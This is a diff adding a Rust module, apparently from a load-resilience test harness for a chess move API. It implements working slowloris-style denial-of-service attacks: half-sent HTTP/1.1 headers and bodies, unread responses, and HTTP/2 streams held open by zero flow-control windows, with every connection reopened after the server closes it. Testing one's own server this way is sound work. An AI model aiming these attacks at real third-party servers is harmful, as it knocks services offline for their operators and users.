@@ -1,0 +1,167 @@
+//! The attacks, each of one address: as many connections as the server allows, opened again when the
+//! server closes them.
+
+use std::net::{IpAddr, SocketAddr};
+use std::sync::{Arc, LazyLock};
+use std::time::Duration;
+
+use axum::body::Bytes;
+use axum::http::Request;
+use shakmaty::{CastlingMode, Chess, Position, Role};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+/// The names of the attacks, by their numbers.
+pub(crate) const ATTACKS: [&str; 5] = [
+    "half heads",
+    "half bodies",
+    "unread responses",
+    "half bodies over HTTP/2",
+    "closed windows over HTTP/2",
+];
+
+/// The connections of one address over HTTP/1.1.
+const CONNECTIONS: usize = 256;
+
+/// The connections of one address over HTTP/2, and the requests on each.
+const HTTP2_CONNECTIONS: usize = 64;
+const STREAMS: usize = 64;
+
+/// The time until a connection that ended is opened again.
+const PAUSE: Duration = Duration::from_millis(500);
+
+/// Attacks from this address until it is cancelled.
+pub(crate) async fn run(attack: usize, server: SocketAddr, from: IpAddr) {
+    let connections = if attack < 3 { CONNECTIONS } else { HTTP2_CONNECTIONS };
+    let mut all = JoinSet::new();
+    for _ in 0..connections {
+        all.spawn(async move {
+            loop {
+                // Whatever ends the connection, it is opened again.
+                let _ended = hold_connection(attack, server, from).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    all.join_all().await;
+}
+
+async fn connect(server: SocketAddr, from: IpAddr) -> std::io::Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    socket.set_recv_buffer_size(4_096)?;
+    socket.bind((from, 0).into())?;
+    socket.connect(server).await
+}
+
+async fn hold_connection(
+    attack: usize,
+    server: SocketAddr,
+    from: IpAddr,
+) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
+    let mut stream = connect(server, from).await?;
+    match attack {
+        0 => {
+            let head = format!("GET /livez HTTP/1.1\r\nhost: x\r\ncookie: {}", "x".repeat(15_000));
+            stream.write_all(head.as_bytes()).await?;
+            wait_for_end(&mut stream).await
+        }
+        1 => {
+            stream.write_all(&post("/v1/legal-moves", 65_536, &"x".repeat(65_000))).await?;
+            wait_for_end(&mut stream).await
+        }
+        2 => {
+            let body = &*LONG_GAME;
+            stream.write_all(&post("/v1/play", body.len(), body)).await?;
+            // Nothing is read until the server gives up.
+            sleep(Duration::from_secs(30)).await;
+            Ok(())
+        }
+        3 => hold_streams(stream, "/v1/legal-moves", None).await,
+        _ => hold_streams(stream, "/v1/play", Some(LONG_GAME.clone())).await,
+    }
+}
+
+fn post(path: &str, length: usize, body: &str) -> Vec<u8> {
+    format!(
+        "POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
+         content-length: {length}\r\n\r\n{body}"
+    )
+    .into_bytes()
+}
+
+async fn wait_for_end(
+    stream: &mut TcpStream,
+) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
+    stream.read_to_end(&mut Vec::new()).await?;
+    Ok(())
+}
+
+/// Sends requests whose responses get no window: with a whole body, or with most of a body that
+/// never ends.
+async fn hold_streams(
+    stream: TcpStream,
+    path: &str,
+    body: Option<Arc<str>>,
+) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
+    let (sender, connection) =
+        h2::client::Builder::new().initial_window_size(0).handshake::<_, Bytes>(stream).await?;
+    let mut tasks = JoinSet::new();
+    for _ in 0..STREAMS {
+        let (sender, path, body) = (sender.clone(), path.to_owned(), body.clone());
+        tasks.spawn(async move {
+            loop {
+                if let Ok(mut ready) = sender.clone().ready().await {
+                    let request = Request::post(format!("http://x{path}"))
+                        .header("content-type", "application/json")
+                        .body(())
+                        .expect("a valid request");
+                    if let Ok((answer, mut upload)) = ready.send_request(request, false) {
+                        let (text, is_whole) = match &body {
+                            Some(body) => (body.to_string(), true),
+                            None => ("x".repeat(60_000), false),
+                        };
+                        let _sent = upload.send_data(text.into(), is_whole);
+                        if let Ok(answer) = answer.await {
+                            // Ends when the server resets the stream.
+                            let _reset = answer.into_body().data().await;
+                        }
+                    }
+                }
+                sleep(4 * PAUSE).await;
+            }
+        });
+    }
+    connection.await?;
+    Ok(())
+}
+
+/// A request to play a game of 951 moves, whose response has about 450 KB.
+static LONG_GAME: LazyLock<Arc<str>> = LazyLock::new(|| {
+    let moves = (1..).map(random_game).find(|moves| moves.len() == 951).expect("a long game");
+    serde_json::json!({ "fen": "startpos", "moves": moves }).to_string().into()
+});
+
+/// The moves of a random game that avoids captures, up to 951.
+fn random_game(mut state: u64) -> Vec<String> {
+    let mut position = Chess::default();
+    let mut moves = Vec::new();
+    while moves.len() < 951 && !position.is_game_over() {
+        let legal = position.legal_moves();
+        let wanted = |mv: &&shakmaty::Move| {
+            let is_pawn_move = mv.role() == Role::Pawn;
+            !mv.is_capture() && is_pawn_move == (position.halfmoves() > 90)
+        };
+        let mut choices: Vec<_> = legal.iter().filter(wanted).collect();
+        if choices.is_empty() {
+            choices = legal.iter().collect();
+        }
+        state =
+            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        let mv = *choices[(state >> 33) as usize % choices.len()];
+        moves.push(mv.to_uci(CastlingMode::Standard).to_string());
+        position.play_unchecked(mv);
+    }
+    moves
+}
